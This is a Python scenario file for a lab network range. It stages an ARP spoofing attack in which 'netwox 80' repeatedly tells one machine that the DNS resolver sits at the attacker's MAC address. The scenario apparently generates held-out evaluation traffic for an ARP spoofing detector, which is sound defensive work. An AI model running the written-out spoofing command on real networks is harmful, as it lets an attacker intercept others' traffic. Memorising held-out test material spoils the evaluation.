"""netwox 80: a person's computer is told again and again where the resolver is, and is told wrong."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, names, pc2 = net.inside("pc4"), net.names(), net.inside("pc2")
    attacker.sysctl(net__ipv4__ip_forward="1", net__ipv4__conf__all__send_redirects="0")
    attacker.sysctl(net__ipv4__conf__eth0__send_redirects="0")
    net.everyday()
    net.loop(attacker, f"curl -s -m 3 -o /dev/null http://{net.web().ip}/", 1.5)
    net.loop(attacker, f"dig +tries=1 +timeout=2 @{names.ip} mail.range.example A", 2.2)
    net.quiet(6)
    with net.attack(
        "arp-spoofing",
        by=attacker,
        attackers=[attacker.mac],
        victims=[pc2, names],
        others={"claimed": [names]},
        frames=f"arp and arp src host {names.ip}",
    ):
        words = f"netwox 80 -d eth0 -e {attacker.mac} -i {names.ip} -E {pc2.mac} -I {pc2.ip} -s 3000"
        net.tool(attacker, *words.split(), seconds=17)
    net.quiet(4)


SCENARIO = Scenario(
    name="arp-spoofing-held-resolver",
    about="netwox tells one computer every three seconds that the resolver is at the attacker, who hands on.",
    detectors=("arp-spoofing",),
    tools={"netwox": "netwox"},
    held_out=True,
    run=run,
)
